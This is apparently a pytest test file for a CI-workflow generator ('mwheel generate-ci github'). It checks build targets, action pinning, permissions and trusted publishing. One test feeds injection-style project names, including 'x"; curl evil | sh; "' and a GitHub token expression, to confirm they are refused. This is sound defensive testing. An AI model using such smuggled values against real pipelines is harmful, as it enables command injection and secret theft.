"""``mwheel generate-ci github``: what the workflow builds, how it is locked down, and that
every ``mwheel`` line it runs parses with mwheel's own argument parser.

The workflows are generated for real fixture crates (a PyO3 crate without pyproject.toml,
a bin crate, a mixed crate below the repository root) and read back with PyYAML. The
comparison with maturin's own generator runs maturin when it is installed.
"""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import tomllib
import yaml
from packaging.requirements import Requirement

import mwheel
from mwheel.build.ci import CiOptions, github_workflow
from mwheel.build.ci.data import load_actions
from mwheel.build.ci.plan import select_platforms
from mwheel.cli import build_parser, main
from mwheel.errors import UsageError

ROOT = Path(__file__).parent.parent
CRATES = ROOT / "fixtures" / "crates"

# The issue's list: what maturin 1.16's generator builds by default.
MATURIN_DEFAULT = {
    "manylinux": {"x86_64", "x86", "aarch64", "armv7", "s390x", "ppc64le"},
    "musllinux": {"x86_64", "x86", "aarch64", "armv7"},
    "windows": {"x64", "x86", "aarch64"},
    "macos": {"x86_64", "aarch64"},
}
OPTION_SETS: list[list[str]] = [
    [],
    ["--pytest"],
    ["--zig"],
    ["--platform", "all", "--pytest", "--zig"],
    ["--platform", "linux", "macosarm64", "--pytest"],
    ["--platform", "musllinux", "windows"],
    ["--platform", "manylinux", "macos", "--pytest", "--zig"],
    ["--platform", "emscripten"],
]


def make_repo(tmp_path: Path, crate: str) -> tuple[Path, list[str]]:
    """A repository holding ``crate``: at its root, or (``sub``) below it, with ``-m``."""
    repo = tmp_path / "repo"
    if crate == "sub":
        shutil.copytree(CRATES / "pyo3-mixed", repo / "crates" / "inner")
        return repo, ["-m", "crates/inner/Cargo.toml"]
    shutil.copytree(CRATES / crate, repo)
    return repo, []


def generate(repo: Path, args: list[str], monkeypatch: pytest.MonkeyPatch) -> Path:
    out = repo / ".github" / "workflows" / "release.yml"
    monkeypatch.chdir(repo)
    assert main(["generate-ci", "github", *args, "-o", str(out)]) == 0
    return out


def load(text: str) -> dict[str, Any]:
    doc = yaml.safe_load(text)
    assert isinstance(doc, dict)
    doc["on"] = doc.pop(True, doc.get("on"))  # YAML 1.1 reads the bare key `on` as true
    return doc


def matrix_targets(doc: dict[str, Any]) -> dict[str, set[str]]:
    """Build job -> its matrix's target names (test and release jobs left out)."""
    return {
        name: {e["target"] for e in job["strategy"]["matrix"]["include"]}
        for name, job in doc["jobs"].items()
        if "strategy" in job and not name.startswith("test-")
    }


def run_scripts(doc: dict[str, Any]) -> list[str]:
    return [s["run"] for job in doc["jobs"].values() for s in job["steps"] if "run" in s]


def mwheel_lines(doc: dict[str, Any]) -> list[list[str]]:
    """Every ``mwheel ...`` command in the workflow's scripts, split as bash would."""
    found = []
    for script in run_scripts(doc):
        for line in script.splitlines():
            words = shlex.split(line.split("#")[0]) if "mwheel " in line else []
            if "mwheel" in words and "install" not in words:
                found.append(words[words.index("mwheel") + 1 :])
    return found


@pytest.mark.parametrize(
    ("platforms", "expected"),
    [
        ((), MATURIN_DEFAULT),
        (("all",), {**MATURIN_DEFAULT, "emscripten": {"wasm32"}}),
        (("linux",), {"manylinux": MATURIN_DEFAULT["manylinux"]}),
        (("macosarm64",), {"macos": {"aarch64"}}),
        (("macosarm64", "macos"), {"macos": {"x86_64", "aarch64"}}),
        (("windows", "musllinux"), {k: MATURIN_DEFAULT[k] for k in ("musllinux", "windows")}),
    ],
)
def test_platform_selection(platforms: tuple[str, ...], expected: dict[str, set[str]]) -> None:
    got = {p.name: {t.name for t in p.targets} for p in select_platforms(platforms)}
    assert got == expected


def test_unknown_platform_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["generate-ci", "github", "--platform", "freebsd"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "freebsd" in err and "Traceback" not in err
    with pytest.raises(UsageError, match="unknown platform"):
        select_platforms(("freebsd",))


@pytest.mark.parametrize("crate", ["pyo3-plain", "bin-hello", "sub"])
@pytest.mark.parametrize("args", OPTION_SETS, ids=lambda a: " ".join(a) or "default")
def test_workflow_structure(
    crate: str, args: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, manifest_args = make_repo(tmp_path, crate)
    text = generate(repo, [*manifest_args, *args], monkeypatch).read_text()
    doc = load(text)
    jobs = doc["jobs"]
    platforms = tuple(args[args.index("--platform") + 1 :]) if "--platform" in args else ()
    platforms = tuple(p for p in platforms if not p.startswith("-"))
    expected = {p.name: {t.name for t in p.targets} for p in select_platforms(platforms)}
    if crate == "bin-hello":
        expected.pop("emscripten", None)  # a program has no Pyodide build (as with maturin)
    assert matrix_targets(doc) == expected
    # The release: tags only, after every job whose artifacts it publishes or tests.
    release = jobs["release"]
    assert (
        release["if"]
        == "${{ github.event_name == 'push' && startsWith(github.ref, 'refs/tags/') }}"
    )
    gated = {name for name in jobs if name != "release" and name != "emscripten"}
    assert set(release["needs"]) == gated
    for name, job in jobs.items():  # the release downloads wheels-*: published jobs only
        for step in job["steps"]:
            if step.get("uses", "").startswith("actions/upload-artifact@"):
                published = step["with"]["name"].startswith("wheels-")
                assert published == (name != "emscripten"), name
    assert release["permissions"] == {"id-token": "write", "attestations": "write"}
    uses = [s.get("uses", "").split("@")[0] for s in release["steps"]]
    assert uses == [
        "actions/download-artifact",
        "actions/attest-build-provenance",
        "pypa/gh-action-pypi-publish",
    ]
    assert release["steps"][1]["with"]["subject-path"] == "dist/*"
    assert "with" not in release["steps"][2]  # no password: trusted publishing
    assert "secrets." not in text and "cache" not in text.lower()
    assert doc["permissions"] == {}
    assert doc["on"]["push"]["tags"] == ["*"]
    for name, job in jobs.items():
        perms = job["permissions"]
        if name != "release":
            assert perms == {"contents": "read"}, name
        for step in job["steps"]:
            assert "${{" not in step.get("run", ""), (name, step)  # values go through env
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
    # pytest: one test job per tested platform, each needing its build job.
    tests = {n: j for n, j in jobs.items() if n.startswith("test-")}
    if "--pytest" in args:
        built = set(expected) - {"emscripten"}
        assert {n.removeprefix("test-") for n in tests} == built
        for name, job in tests.items():
            assert job["needs"] == [name.removeprefix("test-")]
            built_name = name.removeprefix("test-")
            assert matrix_targets({"jobs": {built_name: job}})[built_name] == expected[built_name]
    else:
        assert not tests
    name = "pyo3-mixed" if crate == "sub" else crate
    assert f"https://pypi.org/project/{name}/" == release["environment"]["url"]


def test_every_action_is_pinned_with_its_version(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, _ = make_repo(tmp_path, "pyo3-plain")
    text = generate(repo, ["--platform", "all", "--pytest"], monkeypatch).read_text()
    pins = load_actions()
    used = re.findall(r"uses: (\S+)@(\S+) # (\S+)", text)
    assert {repo for repo, _, _ in used} == set(pins)
    assert len(used) == text.count("uses: ")
    for repo_name, sha, version in used:
        assert (sha, version) == (pins[repo_name].sha, pins[repo_name].version)


@pytest.mark.parametrize("crate", ["pyo3-plain", "bin-hello", "sub"])
@pytest.mark.parametrize("args", OPTION_SETS, ids=lambda a: " ".join(a) or "default")
def test_every_mwheel_line_parses(
    crate: str, args: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each ``mwheel`` command of the workflow parses with this mwheel's own parser."""
    repo, manifest_args = make_repo(tmp_path, crate)
    doc = load(generate(repo, [*manifest_args, *args], monkeypatch).read_text())
    lines = mwheel_lines(doc)
    commands = {words[0] for words in lines}
    only_emscripten = args == ["--platform", "emscripten"]
    assert commands == (
        {"sdist"} if only_emscripten and crate == "bin-hello" else {"build", "sdist"}
    )
    for words in lines:
        parsed = build_parser(words[0]).parse_args(words)
        assert parsed.command == words[0]
        if manifest_args:
            assert parsed.manifest_path == Path("crates/inner/Cargo.toml")
        if words[0] == "build":
            assert parsed.release and parsed.target == "$TRIPLE"
            assert parsed.find_interpreter or parsed.interpreter
    # The workflow installs this very mwheel, with extras this mwheel has.
    installs = [
        w for s in run_scripts(doc) for w in shlex.split(s) if w.startswith("mwheel") and "=" in w
    ]
    extras = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"][
        "optional-dependencies"
    ]
    assert installs
    for requirement in map(Requirement, installs):
        assert str(requirement.specifier) == f"=={mwheel.__version__}"
        assert requirement.extras <= set(extras)


@pytest.mark.parametrize("requires", [">=3.11", ">=3.9,<3.12"])
def test_requires_python_limits_the_interpreters(
    requires: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, _ = make_repo(tmp_path, "bin-hello")
    pyproject = repo / "pyproject.toml"
    pyproject.write_text(
        pyproject.read_text().replace(
            'requires-python = ">=3.9"', f'requires-python = "{requires}"'
        )
    )
    plan = github_workflow(CiOptions(project_dir=repo)).plan
    from packaging.specifiers import SpecifierSet

    spec = SpecifierSet(requires)
    assert plan.project.python_versions
    assert all(spec.contains(v) for v in plan.project.python_versions)
    assert spec.contains(plan.project.test_python)


def test_manifest_outside_the_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    repo, _ = make_repo(tmp_path, "bin-hello")
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    out = tmp_path / "elsewhere" / "ci.yml"
    code = main(["generate-ci", "github", "-m", str(repo / "Cargo.toml"), "-o", str(out)])
    assert code == 2 and not out.exists()
    assert "inside the repository" in capsys.readouterr().err


def test_unwritable_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo, _ = make_repo(tmp_path, "bin-hello")
    monkeypatch.chdir(repo)
    (repo / "blocker").write_text("a file, not a directory")
    assert main(["generate-ci", "github", "-o", str(repo / "blocker" / "ci.yml")]) == 9
    assert sorted(p.name for p in repo.iterdir() if p.name.startswith(".")) == []


def test_to_stdout(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(CRATES / "pyo3-mixed")
    assert main(["generate-ci", "github"]) == 0
    assert matrix_targets(load(capsys.readouterr().out)) == MATURIN_DEFAULT


def _maturin_targets(repo: Path, platforms: list[str]) -> dict[str, set[str]]:
    args = ["maturin", "generate-ci", "github", *(["--platform", *platforms] if platforms else [])]
    proc = subprocess.run(args, cwd=repo, capture_output=True, text=True, check=True)
    got = {}
    for name, job in load(proc.stdout)["jobs"].items():
        if "strategy" in job:
            entries = job["strategy"]["matrix"]["platform"]
            got["manylinux" if name == "linux" else name] = {e["target"] for e in entries}
    return got


@pytest.mark.skipif(shutil.which("maturin") is None, reason="maturin is not installed")
@pytest.mark.parametrize("platforms", [[], ["all"], ["manylinux", "macos"]])
@pytest.mark.parametrize("crate", ["pyo3-mixed", "bin-hello"])
def test_same_targets_as_maturin(
    crate: str, platforms: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every target maturin's generator builds is built (android aside: no mwheel tag)."""
    repo, _ = make_repo(tmp_path, crate)
    theirs = _maturin_targets(repo, platforms)
    theirs.pop("android", None)
    ours = matrix_targets(
        load(
            generate(repo, ["--platform", *platforms] if platforms else [], monkeypatch).read_text()
        )
    )
    if "emscripten" in theirs:
        assert theirs.pop("emscripten") and ours.pop("emscripten") == {"wasm32"}
    assert ours == theirs


@pytest.mark.parametrize("name", ['x"; curl evil | sh; "', "a b", "${{ github.token }}"])
def test_hostile_project_name_is_refused(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The name lands in the workflow's scripts: anything but a distribution name is refused."""
    repo, _ = make_repo(tmp_path, "bin-hello")
    pyproject = repo / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace('"bin-hello"', json.dumps(name)))
    monkeypatch.chdir(repo)
    out = repo / "ci.yml"
    assert main(["generate-ci", "github", "-o", str(out)]) == 8
    assert not out.exists()
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "not a valid distribution name" in err


def test_mwheel_find_links(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before mwheel is on PyPI: its wheel in tools/ (found) or a named directory (used)."""
    repo, _ = make_repo(tmp_path, "bin-hello")

    def installs(args: list[str]) -> set[str]:
        doc = load(generate(repo, args, monkeypatch).read_text())
        return {s for s in run_scripts(doc) if "pip install" in s and "mwheel" in s}

    assert all("--find-links" not in s for s in installs([]))
    (repo / "tools").mkdir()
    (repo / "tools" / f"mwheel-{mwheel.__version__}-py3-none-any.whl").write_bytes(b"")
    assert all("--find-links tools " in s for s in installs([]))
    (repo / "vendor" / "wheels").mkdir(parents=True)
    named = installs(["--mwheel-find-links", "vendor/wheels"])
    assert named and all("--find-links vendor/wheels " in s for s in named)
    assert main(["generate-ci", "github", "--mwheel-find-links", "nowhere"]) == 2


def test_a_target_without_an_allowed_python_is_left_out(tmp_path: Path) -> None:
    """Windows arm64 runners have CPython 3.11+ only: a project for <3.11 cannot use them."""
    repo, _ = make_repo(tmp_path, "bin-hello")
    pyproject = repo / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace('">=3.9"', '">=3.9,<3.11"'))
    plan = github_workflow(CiOptions(project_dir=repo)).plan
    windows = {p.name: {t.name for t in p.targets} for p in plan.builds}["windows"]
    assert windows == {"x64", "x86"}
    assert any("windows aarch64: left out" in w for w in plan.warnings)
